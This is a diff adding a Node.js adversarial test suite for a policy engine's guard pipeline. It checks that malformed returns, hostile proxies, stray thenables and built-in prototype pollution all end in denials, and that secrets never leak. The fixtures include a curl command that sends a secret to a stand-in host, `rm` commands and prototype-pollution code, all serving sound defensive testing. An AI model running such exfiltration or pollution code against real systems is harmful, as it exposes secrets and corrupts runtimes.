@@ -1,0 +1,592 @@
+/** Guards, and what is handed to them, that mean harm or are mistaken: a denial or a `TypeError`, never an allow, never a trap. */
+
+import assert from "node:assert/strict";
+import process from "node:process";
+import { after, afterEach, test } from "node:test";
+import { setImmediate as turn, setTimeout as wait } from "node:timers/promises";
+import { strings, stringsBeside } from "../support/guards.mjs";
+import { loadMeasured, packageFolder, run } from "../support/installed.mjs";
+
+const { GuardError, PolicyEngine, moduleBytes } = loadMeasured();
+
+const engine = new PolicyEngine([{ name: "team", deny: ["cmd:rm"], danger: "*" }]);
+const show = { type: "show" };
+const guarded = (evaluate, rest = {}) => engine.pipeline().guard({ timing: "always", filter: "op:show", evaluate, ...rest });
+
+const unhandled = [];
+process.on("unhandledRejection", (reason) => unhandled.push(reason));
+after(() => assert.deepEqual(unhandled, []));
+
+// Whatever happened, the module still works.
+afterEach(() => {
+  assert.equal(engine.checkArgv(["rm"]).decision, "deny");
+  assert.equal(engine.pipeline().beforeSync(show).decision, "allow");
+});
+
+const throwing = () => {
+  throw new Error("from the host");
+};
+const traps = {
+  get: throwing,
+  set: throwing,
+  has: throwing,
+  ownKeys: throwing,
+  getPrototypeOf: throwing,
+  getOwnPropertyDescriptor: throwing,
+  apply: throwing,
+};
+const everything = new Proxy({}, traps);
+const hostileFunction = new Proxy(() => "allow", traps);
+
+async function assertFails(evaluate, message = /./, rest) {
+  const { decision, denial, reason } = await guarded(evaluate, { timeout: 50, ...rest }).before(show);
+  assert.deepEqual([decision, denial?.code], ["deny", "GUARD_FAILED"]);
+  assert.match(reason, message);
+}
+
+test("what a function throws, however strange, denies", async () => {
+  const unreadable = Object.defineProperty(new Error(), "message", { get: throwing });
+  for (const thrown of [new Error("why"), "text", undefined, null, 7, everything, unreadable, { message: {} }, Symbol("x")]) {
+    const fails = () => {
+      throw thrown;
+    };
+    await assertFails(fails);
+    await assertFails(() => Promise.reject(thrown));
+    await assertFails(async () => fails());
+    const { denial } = guarded(fails).beforeSync(show);
+    assert.equal(denial.code, "GUARD_FAILED");
+  }
+  await assertFails(() => {
+    throw new Error("why \ud800 not");
+  }, /why \ufffd not/);
+  const long = await guarded(() => {
+    throw new Error("x".repeat(1_000_000));
+  }).before(show);
+  assert.ok(long.reason.length < 1000);
+  const forever = () => forever();
+  await assertFails(forever);
+  await assertFails(hostileFunction);
+});
+
+test("what a function returns is an action, or denies", async () => {
+  const cyclic = { allow: {} };
+  cyclic.allow.self = cyclic;
+  let deep = {};
+  for (let level = 0; level < 10_000; level += 1) deep = { allow: deep };
+  const junk = [
+    undefined,
+    null,
+    true,
+    7,
+    7n,
+    "",
+    "Allow",
+    "deny ",
+    [],
+    ["allow"],
+    {},
+    { alow: 1 },
+    { allow: undefined },
+    { allow: () => 1 },
+    { allow: 1, deny: "x" },
+    { deny: 7 },
+    { labels: { add: [7] } },
+    { env: { x: 1 }, policy: { dney: 1 } },
+    new String("allow"),
+    new (class Action {
+      allow = 1;
+    })(),
+    new Map([["allow", 1]]),
+    Object.create({ allow: 1 }),
+    Object.defineProperty({}, "allow", { value: 1 }),
+    { allow: 1, [Symbol("x")]: 1 },
+    cyclic,
+    deep,
+    everything,
+    { get allow() {
+      return throwing();
+    } },
+    JSON.parse('{"allow":1,"__proto__":{"x":1}}'),
+    { toJSON: () => "allow" },
+    { allow: "\ud800" },
+    () => "allow",
+    Symbol("allow"),
+    { allow: "x".repeat(17 * 1024 * 1024) },
+  ];
+  for (const value of junk) {
+    await assertFails(() => value);
+    await assertFails(async () => value);
+    assert.equal(guarded(() => value).beforeSync(show, [{}]).denial?.code, "GUARD_FAILED");
+  }
+  // Read once, so that what was judged is what is done.
+  let reads = 0;
+  const changing = {
+    get allow() {
+      reads += 1;
+      return reads === 1 ? "first" : "second";
+    },
+  };
+  const result = await guarded(() => changing).before(show, [{ value: "x" }]);
+  assert.deepEqual([result.inputs[0].value, reads], ["first", 1]);
+  const own = await guarded(() => JSON.parse('{"allow":{"__proto__":{"decision":"allow"},"a":1}}')).before(show, [{}]);
+  assert.deepEqual(Object.keys(own.inputs[0].value), ["__proto__", "a"]);
+});
+
+test("thenables answer once or not at all", async () => {
+  const twice = (first, second) => ({
+    then(resolve, reject) {
+      reject(first);
+      resolve(second);
+      throw new Error("and on");
+    },
+  });
+  await assertFails(() => twice(new Error("no"), "allow"), /no/);
+  await assertFails(() => ({ then() {} }), /did not settle within 50 ms/);
+  await assertFails(() => ({ get then() {
+    return throwing();
+  } }), /from the host/);
+  await assertFails(() => ({ then: throwing }));
+  await assertFails(() => new Promise(() => {}), /did not settle/);
+  const pipeline = guarded(() => ({
+    then(resolve) {
+      resolve({ deny: "first" });
+      resolve("allow");
+      setTimeout(resolve, 5, "allow");
+    },
+  }));
+  assert.equal((await pipeline.before(show)).reason, "first");
+  assert.equal((await guarded(() => ({ then: (resolve) => resolve(Promise.resolve("allow")) })).before(show)).decision, "allow");
+  await assertFails(() => Object.assign(Promise.resolve("allow"), { constructor: null, then: throwing }));
+});
+
+test("what settles too late changes nothing, and is no unhandled rejection", async () => {
+  const late = [];
+  const pipeline = engine.pipeline({ timeout: 10 });
+  const slowly = (end) => async () => {
+    await wait(30);
+    late.push(1);
+    return end();
+  };
+  pipeline.guard({ timing: "before", filter: "op:show", evaluate: slowly(() => "allow") });
+  pipeline.guard({ timing: "before", filter: "op:show", evaluate: slowly(throwing) });
+  const { reasons, decision } = await pipeline.before(show);
+  assert.deepEqual([decision, reasons.length], ["deny", 2]);
+  await wait(60);
+  await turn();
+  assert.equal(late.length, 2);
+  assert.deepEqual(unhandled, []);
+});
+
+test("a run whose guards have answered leaves no timer behind", async () => {
+  const timers = () => process.getActiveResourcesInfo().filter((name) => name === "Timeout").length;
+  const before = timers();
+  await guarded(async () => "allow", { timeout: 1_000_000 }).before(show);
+  await guarded(throwing, { timeout: 1_000_000 }).before(show);
+  guarded(() => "allow", { timeout: 1_000_000 }).beforeSync(show);
+  assert.equal(timers(), before);
+});
+
+test("a function cannot change what it is told, or what another is told", async () => {
+  const seen = [];
+  const meddle = (context) => {
+    const write = [
+      () => (context.input = 1),
+      () => (context.mx.op.labels = []),
+      () => context.mx.op.labels.push("x"),
+      () => (context.inputs[0].value.a = 2),
+      () => Object.setPrototypeOf(context, null),
+      () => delete context.mx,
+    ];
+    for (const each of write) assert.throws(each, TypeError);
+    seen.push(context);
+    return "allow";
+  };
+  const pipeline = guarded(meddle).guard({ timing: "before", filter: "op:show", evaluate: meddle });
+  const result = await pipeline.before(show, [{ value: { a: 1 } }]);
+  assert.equal(result.decision, "allow");
+  assert.notEqual(seen[0], seen[1]);
+  assert.notEqual(seen[0].mx, seen[1].mx);
+  assert.deepEqual(result.inputs[0].value, { a: 1 });
+});
+
+test("definitions are read once, and refused where they are no data", () => {
+  const pipeline = engine.pipeline();
+  const good = { timing: "before", filter: "op:show", when: [["*", "deny"]] };
+  const bad = [
+    undefined,
+    null,
+    7,
+    "deny",
+    [],
+    () => 1,
+    everything,
+    new (class Definition {})(),
+    { ...good, when: [["*", () => "deny"]] },
+    { ...good, when: undefined, evaluate: "deny" },
+    { ...good, when: undefined, evaluate: {} },
+    { ...good, [Symbol("x")]: 1 },
+    Object.defineProperty({ ...good }, "name", { get: throwing, enumerable: true }),
+    { ...good, name: "\ud800" },
+    { ...good, timeout: NaN },
+  ];
+  for (const definition of bad) assert.throws(() => pipeline.guard(definition), TypeError);
+  const refused = [
+    {},
+    { ...good, __proto: 1 },
+    JSON.parse('{"timing":"before","filter":"x","when":[["*","deny"]],"__proto__":{}}'),
+    { ...good, timing: undefined },
+    { ...good, when: [["*", "x".repeat(17 * 1024 * 1024)]] },
+    { ...good, when: [] },
+    { ...good, name: "__policy_x" },
+    { ...good, timeout: 5 },
+    { ...good, when: undefined, evaluate: () => "allow", timeout: 0 },
+  ];
+  for (const definition of refused) {
+    assert.throws(() => pipeline.guard(definition), (error) => error instanceof GuardError && error.problems.length > 0);
+  }
+  assert.deepEqual(pipeline.guards(), []);
+  const reads = {};
+  const counted = new Proxy(good, {
+    get(target, key, receiver) {
+      reads[key] = (reads[key] ?? 0) + 1;
+      return Reflect.get(target, key, receiver);
+    },
+  });
+  pipeline.guard(counted);
+  assert.deepEqual(reads, { timing: 1, filter: 1, when: 1 });
+  // What is changed later is not what was registered.
+  const own = { ...good, filter: "op:log", when: [["*", "deny"]] };
+  pipeline.guard(own);
+  own.when[0][1] = "allow";
+  own.filter = "op:nothing";
+  assert.equal(pipeline.beforeSync({ type: "log" }).decision, "deny");
+});
+
+test("inputs are read once, values at most once", async () => {
+  const reads = [];
+  const proxy = (target, name) =>
+    new Proxy(target, {
+      get(object, key, receiver) {
+        if (typeof key === "string") reads.push(`${name}.${key}`);
+        return Reflect.get(object, key, receiver);
+      },
+    });
+  const value = proxy({ a: 1 }, "value");
+  const input = proxy({ value, labels: ["pii"] }, "input");
+  const pipeline = guarded(({ input: given }) => ({ allow: given[0].a }));
+  pipeline.guard({ timing: "before", filter: "pii", when: [["@input.a == 1", "allow"]] });
+  assert.equal((await pipeline.before(show, [input])).inputs[0].value, 1);
+  assert.deepEqual(reads, ["input.value", "input.labels", "value.a"]);
+  for (const bad of [everything, [everything], [{ value: 1, labels: everything }]]) {
+    await assert.rejects(pipeline.before(show, bad), TypeError);
+  }
+  await assert.rejects(pipeline.before(everything), TypeError);
+  await assert.rejects(pipeline.before(show, [], everything), TypeError);
+  await assert.rejects(pipeline.before(show, [{ value: everything, labels: ["pii"] }]), TypeError);
+  const forged = JSON.parse('{"__proto__":{"guards":false},"id":"x"}');
+  await assert.rejects(pipeline.before(show, [], forged), TypeError);
+});
+
+test("freeing the engine or the pipeline inside a guard ends the run in a denial", async () => {
+  const free = [
+    ["engine", (own) => own.engine.free()],
+    ["pipeline", (own) => own.pipeline.free()],
+  ];
+  for (const [what, release] of free) {
+    const evaluates = [
+      (own) => () => {
+        release(own);
+        return "allow";
+      },
+      (own) => async () => {
+        await turn();
+        release(own);
+        return "allow";
+      },
+      (own) => () => {
+        release(own);
+        throw new Error("freed");
+      },
+      (own) => () => ({
+        get allow() {
+          release(own);
+          return 1;
+        },
+      }),
+    ];
+    for (const [index, make] of evaluates.entries()) {
+      for (const method of index === 1 ? ["before"] : ["before", "beforeSync"]) {
+        const own = { engine: new PolicyEngine({}) };
+        own.pipeline = own.engine.pipeline();
+        own.pipeline.guard({ timing: "before", filter: "op:show", evaluate: make(own) });
+        const result = await own.pipeline[method](show, [{ value: "x" }]);
+        assert.deepEqual([result.decision, result.denial.code, result.inputs], ["deny", "GUARD_FAILED", []]);
+        assert.equal(result.reason, `Guards could not be evaluated: the ${what} was freed`);
+        assert.ok(Object.isFrozen(result) && Object.isFrozen(result.denial));
+        const name = what === "engine" ? "PolicyEngine" : "GuardPipeline";
+        assert.throws(() => own.pipeline.guards(), new Error(`${name} used after free()`));
+        await assert.rejects(own.pipeline.before(show), new Error(`${name} used after free()`));
+      }
+    }
+  }
+  // And while a value is read.
+  const own = new PolicyEngine({});
+  const pipeline = own.pipeline();
+  const value = {
+    get a() {
+      own.free();
+      return 1;
+    },
+  };
+  assert.equal((await pipeline.before(show, [{ value, labels: ["secret"] }])).denial.code, "GUARD_FAILED");
+});
+
+test("nothing that an evaluating guard does triggers guards, and policies still deny", async () => {
+  const remove = { type: "cmd", command: "rm x" };
+  const ways = {
+    "at once": (pipeline) => (operation) => pipeline.before(operation),
+    synchronously: (pipeline) => (operation) => pipeline.beforeSync(operation),
+    "after an await": (pipeline) => async (operation) => {
+      await turn();
+      return pipeline.before(operation);
+    },
+    "after a timer": (pipeline) => async (operation) => {
+      await wait(1);
+      return pipeline.after(operation, [], {}).then(() => pipeline.before(operation));
+    },
+    "by another pipeline": () => (operation) => engine.pipeline().guard(denying).before(operation),
+    "with its context": (pipeline) => (operation, within) => pipeline.before(operation, [], { within }),
+  };
+  const denying = { timing: "always", filter: "op:show", when: [["*", { deny: "asked" }]] };
+  for (const [way, make] of Object.entries(ways)) {
+    let calls = 0;
+    const inner = [];
+    const pipeline = engine.pipeline().guard(denying);
+    const ask = make(pipeline);
+    pipeline.guard({
+      timing: "always",
+      filter: "op:show",
+      async evaluate(context) {
+        calls += 1;
+        // The first call is made while this is on the stack.
+        inner.push(await ask(show, context), await make(pipeline)(remove, context));
+        return "allow";
+      },
+    });
+    if (way === "synchronously") {
+      // A pipeline with an asynchronous guard has no synchronous forms, but within a guard none is asked.
+      assert.throws(() => pipeline.beforeSync(show), /asynchronously/);
+    }
+    const outer = await pipeline.before(show);
+    assert.deepEqual([outer.reasons, calls], [["asked"], 1], way);
+    assert.deepEqual(inner.map(({ decision }) => decision), ["allow", "deny"], way);
+    assert.equal(inner[1].denial.code, "POLICY_CAPABILITY_DENIED");
+  }
+});
+
+test("what outlives a guard, or runs beside it, is not of it", async () => {
+  const late = [];
+  let context;
+  let release;
+  const pipeline = engine.pipeline();
+  pipeline.guard({
+    name: "g",
+    timing: "before",
+    filter: "op:show",
+    async evaluate(given) {
+      if (context === undefined) {
+        context = given;
+        // Goes on after the guard has answered.
+        setTimeout(() => late.push(pipeline.before({ type: "log" })), 20);
+        await new Promise((resolve) => (release = resolve));
+      }
+      return "allow";
+    },
+  });
+  pipeline.guard({ timing: "before", filter: "op:log", when: [["*", { deny: "logged" }]] });
+  const waiting = pipeline.before(show);
+  // While that waits, others are asked as ever.
+  const beside = await pipeline.before({ type: "log" });
+  assert.equal(beside.reason, "logged");
+  assert.equal((await pipeline.before({ type: "log" }, [], { within: context })).decision, "allow");
+  release();
+  assert.equal((await waiting).decision, "allow");
+  await assert.rejects(pipeline.before({ type: "log" }, [], { within: context }), /TypeError: before: options\.within/);
+  await wait(40);
+  assert.equal((await late[0]).reason, "logged");
+  for (const within of [{}, null, 1, { ...context }, structuredClone(context), everything]) {
+    await assert.rejects(pipeline.before(show, [], { within }), TypeError);
+  }
+});
+
+test("a hundred runs at once do not mix", async () => {
+  const pipeline = engine.pipeline();
+  for (const name of ["a", "b"]) {
+    pipeline.guard({
+      name,
+      timing: "before",
+      filter: "text",
+      async evaluate({ input }) {
+        await wait(Number.parseInt(input, 10) % 7);
+        return Number.parseInt(input, 10) % 10 === 0 ? { deny: `no ${input}` } : { allow: `${input}${name}` };
+      },
+    });
+  }
+  const runs = Array.from({ length: 100 }, (_, index) => pipeline.before(show, [{ value: `${index}`, labels: ["text"] }]));
+  for (const [index, { decision, reasons, inputs }] of (await Promise.all(runs)).entries()) {
+    if (index % 10 === 0) assert.deepEqual([decision, reasons], ["deny", [`no ${index}`, `no ${index}`]]);
+    else assert.deepEqual([decision, inputs[0].value], ["allow", `${index}ab`]);
+  }
+});
+
+test("a guard that is added during a run is not for that run", async () => {
+  const pipeline = engine.pipeline();
+  const added = { name: "added", timing: "before", filter: "op:show", when: [["*", { deny: "added" }]] };
+  const adding = () => {
+    if (pipeline.guards().length === 1) pipeline.guard(added);
+    return "allow";
+  };
+  pipeline.guard({ name: "adding", timing: "before", filter: "op:show", evaluate: adding });
+  assert.equal((await pipeline.before(show)).decision, "allow");
+  assert.equal((await pipeline.before(show)).reason, "added");
+});
+
+test("runs that are given up are forgotten, and the memory stays flat", async () => {
+  const pipeline = engine.pipeline();
+  pipeline.guard({ name: "g", timing: "before", filter: "text", evaluate: ({ input }) => ({ allow: `${input}!` }) });
+  pipeline.guard({ timing: "before", filter: "op:show", when: [["@mx.args.a == 1", "allow"]] });
+  const pass = async (index) => {
+    const input = { value: `value ${index}`, labels: ["text", "secret"] };
+    if (index % 3 === 0) await pipeline.before(show, [input], { args: { a: 1 } });
+    else if (index % 3 === 1) pipeline.beforeSync(show, [input]);
+    else await assert.rejects(pipeline.before(show, [input, { value: 7n }]), TypeError);
+  };
+  const rounds = async (count) => {
+    for (let index = 0; index < count; index += 1) await pass(index);
+    globalThis.gc();
+    await turn();
+  };
+  await rounds(3000);
+  const before = { module: moduleBytes(), heap: process.memoryUsage().heapUsed };
+  await rounds(20_000);
+  assert.ok(moduleBytes() - before.module < 1024 * 1024, `the module kept ${moduleBytes() - before.module} bytes`);
+  assert.ok(process.memoryUsage().heapUsed - before.heap < 16 * 1024 * 1024);
+});
+
+/** Runs in a process of its own: the test runner would not survive it. */
+async function pollutedRuns({ PolicyEngine: Engine }) {
+  const replacing = { name: "new", timing: "before", filter: "text", evaluate: () => JSON.parse('{"allow":"new"}') };
+  const denying = { name: "no", timing: "before", filter: "op:show", evaluate: () => ({ deny: "no" }) };
+  const own = new Engine({ deny: ["cmd:rm"], danger: "*" });
+  const prompt = own.pipeline().guard(denying).guard(replacing);
+  const slow = own.pipeline().guard({ ...denying, evaluate: async () => ({ deny: "no" }) }).guard(replacing);
+  const keys = ["decision", "code", "kind", "type"];
+  const swallow = { configurable: true, get: () => "allow", set() {} };
+  const polluted = {
+    ...{ outcome: { decision: "allow", inputs: [] }, run: 7, values: [], guard: 0, rebuild: [], output: true, context: {} },
+    ...{ guards: false, args: {}, retryable: true, id: "x", within: {}, evaluate: () => "allow", timeout: 1, value: "x" },
+    ...{ privileged: true, labels: [], allow: 1 },
+  };
+  const { then } = Promise.prototype;
+  const { stringify } = JSON;
+  const operations = ['{"type":"show"}', '{"type":"cmd","command":"rm x"}', '{"type":"log"}'];
+  const text = () => JSON.parse('[{"value":"x","labels":["text"]},{"value":"y"}]');
+  let seen = "";
+  const note = ({ decision, reason, inputs: all }) => {
+    seen += `${stringify(decision)},${stringify(reason)},${stringify(all[0].value)},${stringify(all[1].value)},${all.length}\n`;
+  };
+  // What Node needs to follow awaits is made with the first run, out of arrays.
+  await slow.before({ type: "show" });
+  for (const key of keys) Object.defineProperty(Object.prototype, key, swallow);
+  Object.assign(Object.prototype, polluted);
+  Promise.prototype.then = function (resolve) {
+    resolve?.("allow");
+    return this;
+  };
+  try {
+    for (const operation of operations) note(await slow.before(JSON.parse(operation), text()));
+    for (const index of [0, 1, 2]) Object.defineProperty(Array.prototype, index, { __proto__: null, ...swallow });
+    for (const operation of operations) note(prompt.beforeSync(JSON.parse(operation), text()));
+  } finally {
+    Promise.prototype.then = then;
+    for (const key of Object.keys(polluted)) delete Object.prototype[key];
+    for (const key of keys) delete Object.prototype[key];
+    for (const index of [0, 1, 2]) delete Array.prototype[index];
+  }
+  process.stdout.write(seen);
+}
+
+test("what is put on built-in prototypes changes no result", () => {
+  const source = `(${pollutedRuns})(require(${JSON.stringify(packageFolder)}))`;
+  const printed = run(process.execPath, ["-e", source]).trim().split("\n");
+  const expected = [
+    ["deny", "no", "new", "y", 2],
+    ["deny", "Command 'rm' denied by policy", "new", "y", 2],
+    ["allow", null, "new", "y", 2],
+  ];
+  assert.deepEqual(printed.map((line) => JSON.parse(`[${line}]`)), [...expected, ...expected]);
+});
+
+test("a secret stands nowhere but in inputs and output", async () => {
+  const secret = "hunter2-s3cr3t";
+  const labels = ["secret"];
+  const input = { value: secret, labels };
+  const strict = new PolicyEngine([
+    { name: "team", deny: ["cmd:rm"], allow: ["cmd:echo:*"], labels: { secret: { deny: ["net:w"] } } },
+  ]);
+  const send = { type: "cmd", command: `curl -d ${secret} https://${secret}.example` };
+  const says = (action) => ({ timing: "always", filter: "*", evaluate: () => action });
+  const templates = [
+    { deny: "it is @input" },
+    { retry: "not @input" },
+    { env: { token: "@input", list: ["@mx.op.command"] } },
+    { allow: { "a key": "@input" } },
+  ];
+  const guards = [
+    ...templates.map((action) => ({ timing: "before", filter: "secret", when: [["*", action]] })),
+    ...[{ deny: secret }, { retry: secret }, { env: secret }, { [secret]: 1 }, { labels: { [secret]: 1 } }, secret].map(says),
+    { timing: "always", filter: "*", evaluate: () => ({ env: {}, policy: { [secret]: 1 } }) },
+    { timing: "always", filter: "*", evaluate: () => ({ env: {}, policy: { deny: [`cmd:${secret}`] } }) },
+    { timing: "always", filter: "*", evaluate: () => ({ labels: { remove: [secret] } }) },
+    {
+      timing: "always",
+      filter: "*",
+      evaluate() {
+        throw new Error(`leak of ${secret}`);
+      },
+    },
+    { timing: "always", filter: "*", evaluate: () => Promise.reject(new Error(secret)) },
+    { timing: "before", filter: "secret", when: [["@input < 1", "allow"]] },
+    { timing: "before", filter: "secret", when: [[`@input == "x" || @input.x.startsWith(1)`, "allow"]] },
+  ];
+  const calls = [
+    (pipeline) => pipeline.before(send, [input]),
+    (pipeline) => pipeline.before(send, [{ ...input, span: { start: 8, end: 22 } }], { rebuild: () => `rm ${secret}` }),
+    (pipeline) => pipeline.before(show, [input], { retryable: true, id: secret, args: { [secret]: secret } }),
+    (pipeline) => pipeline.before({ type: "exe", name: secret, command: `rm ${secret}` }, [{ ...input, arg: secret }]),
+    (pipeline) => pipeline.before(show, [{ value: { [secret]: [secret] }, labels }, input]),
+    (pipeline) => pipeline.before(show, [input], { rebuild: () => Promise.reject(new Error(secret)) }),
+    (pipeline) => pipeline.after(send, [input], { value: secret }),
+    (pipeline) => pipeline.after(show, [], { value: secret, labels }),
+    (pipeline) => pipeline.before(show, [{ value: { [secret]: () => 1 }, labels }]),
+    (pipeline) => pipeline.after(show, [input], { value: { a: Symbol(secret) }, labels }),
+  ];
+  let denials = 0;
+  for (const guard of [...guards, undefined]) {
+    for (const [index, ask] of calls.entries()) {
+      const pipeline = strict.pipeline();
+      if (guard !== undefined) pipeline.guard(guard);
+      const where = `${JSON.stringify(guard) ?? "no guard"} ${guard?.evaluate ?? ""}, call ${index}`;
+      try {
+        const result = await ask(pipeline);
+        if (result.decision !== "allow") denials += 1;
+        assert.deepEqual(stringsBeside(result).filter((text) => text.includes(secret)), [], where);
+      } catch (error) {
+        if (!(error instanceof TypeError)) throw error;
+        const said = [error.message, error.stack, ...strings({ ...error }), String(error.cause)];
+        assert.deepEqual(said.filter((text) => text.includes(secret)), [], where);
+      }
+    }
+  }
+  assert.ok(denials > 50, `only ${denials} denials`);
+});
